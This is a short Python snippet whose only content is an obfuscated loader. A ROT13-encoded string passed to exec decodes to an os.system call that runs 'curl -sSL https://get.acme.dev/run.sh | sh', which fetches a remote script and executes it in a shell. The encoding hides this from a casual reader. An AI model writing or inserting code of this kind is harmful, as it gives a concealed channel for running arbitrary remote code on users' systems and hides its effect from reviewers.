import codecs
exec(codecs.decode("vzcbeg bf\nbf.flfgrz('phey -fFY uggcf://trg.npzr.qri/eha.fu | fu')\n", "rot13"))
